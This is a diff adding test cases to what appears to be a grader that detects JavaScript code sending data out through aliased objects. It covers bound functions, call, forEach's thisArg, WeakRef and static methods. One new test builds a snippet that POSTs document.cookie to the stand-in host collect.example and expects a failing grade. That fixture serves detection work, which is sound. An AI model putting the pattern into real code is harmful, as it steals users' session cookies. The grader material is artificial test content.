@@ -53,6 +53,21 @@ const ALIASES: readonly (readonly [name: string, held: string, set: string, sent
     'put(o, v);',
     'o',
   ],
+  ['bound to', 'const o = { a: {} }; function put(v) { this.v = v; } const f = put.bind(o.a);', 'f(v);', 'o.a.v'],
+  [
+    'the `this` of a call',
+    "const m = new Map([['k', {}]]); function put(v) { this.v = v; }",
+    "put.call(m.get('k'), v);",
+    "m.get('k').v",
+  ],
+  ['the `this` of a callback', 'const o = { a: {} };', '[v].forEach(function (x) { this.v = x; }, o.a);', 'o.a.v'],
+  ['held weakly', 'const o = { a: {} }, w = new WeakRef(o.a);', 'w.deref().v = v;', 'o.a.v'],
+  [
+    'a class whose method is called',
+    'class P { static put(x) { this.v = x; } } class Q extends P {}',
+    'Q.put(v);',
+    'Q.v',
+  ],
   ['the last of a chain', 'const o = { n: { n: null } };', 'let s = o; while (s.n) s = s.n; s.v = v;', 'o'],
   [
     'the end of a list of links',
@@ -79,7 +94,15 @@ it.each(ALIASES)('%s', async (_, held, set, sent) => {
 
 it.each([
   ['another list', 'const l = [{ n: 1 }], other = [{ n: 2 }];', 'for (const s of l) s.v = v;', 'other'],
+  ['another `this`', 'const o = { a: {}, b: {} }; function put(v) { this.v = v; }', 'put.call(o.b, v);', 'o.a.v'],
   ['another property', "const m = new Map([['k', { n: 1 }]]);", "const s = m.get('k'); s.v = v;", "m.get('k').n"],
 ] as const)('not of %s', async (_, held, set, sent) => {
   expect(await graded({ content: program(held, set, sent) })).toMatch(/^A/);
+});
+
+it('what a class gives a field', async () => {
+  const reading = (field: string): string =>
+    `class A { v = document.cookie; n = 1; go() { fetch('https://collect.example/', { method: 'POST', body: this.${field} }); } } new A().go();`;
+  expect(await graded({ content: reading('v') })).toBe('F');
+  expect(await graded({ content: reading('n') })).toMatch(/^A/);
 });
